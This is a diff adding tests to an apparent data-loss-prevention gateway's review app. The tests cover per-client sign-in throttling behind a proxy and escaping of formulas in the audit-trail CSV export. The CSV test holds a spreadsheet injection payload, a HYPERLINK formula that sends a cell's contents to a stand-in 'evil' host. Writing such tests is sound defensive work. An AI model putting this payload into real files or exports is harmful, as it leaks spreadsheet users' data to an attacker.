@@ -15,7 +15,7 @@ from dlpgate.config import Settings
 from dlpgate.pipeline import Scanner
 from dlpgate.review.app import create_app
 from dlpgate.review.auth import hash_password
-from dlpgate.store.base import HeldMessage
+from dlpgate.store.base import AuditEntry, HeldMessage
 from dlpgate.store.sqlite import SQLiteStore
 from dlpgate.testing import Sink, make_envelope, make_message
 
@@ -237,6 +237,22 @@ def test_sign_in_is_throttled_after_five_failures(world):
     assert "sign-in-refused" in [e.action for e in world["store"].audit_log()]
 
 
+def test_behind_the_proxy_one_clients_failures_lock_out_that_client_not_the_team(world):
+    # every reviewer arrives from the proxy's address: five failures with invented names from
+    # anywhere locked everyone out
+    settings = world["settings"].model_copy(update={"review": world["settings"].review.model_copy(
+        update={"trusted_proxies": ["10.0.0.0/8"]})})
+    proxy = TestClient(create_app(settings, world["store"]), follow_redirects=False,
+                       client=("10.0.0.5", 4000))
+    for i in range(5):
+        assert proxy.post("/login", data={"username": f"nobody{i}", "password": "x"}, headers={
+            "X-Forwarded-For": "203.0.113.9"}).status_code == 401
+    assert proxy.post("/login", data={"username": "nobody9", "password": "x"}, headers={
+        "X-Forwarded-For": "203.0.113.9"}).status_code == 429
+    assert proxy.post("/login", data={"username": "ann", "password": PASSWORD}, headers={
+        "X-Forwarded-For": "198.51.100.7"}).status_code == 303
+
+
 def test_a_failed_sign_in_records_what_was_typed_only_when_it_names_an_account(world):
     # a password typed into the user name box was kept in the audit trail as the actor
     c = client(world)
@@ -262,6 +278,11 @@ def test_the_audit_trail_exports_as_csv_and_has_no_edit_route(world):
     r = audrey.get("/audit.csv")
     assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
     assert f"web:ann,view,{world['id']}" in r.text
+    # a sender's false-alarm reason became a live formula in the reviewer's spreadsheet
+    world["store"].audit(AuditEntry("sender:x@example-council.gov.uk", "false-alarm",
+                                    world["id"], reason='=HYPERLINK("http://evil/?"&A2,"x")',
+                                    via="link"))
+    assert "'=HYPERLINK" in audrey.get("/audit.csv").text
     page = audrey.get("/audit").text
     assert re.findall(r'<form method="post" action="([^"]*)"', page) == ["/logout"]
     for method in ("post", "put", "delete"):
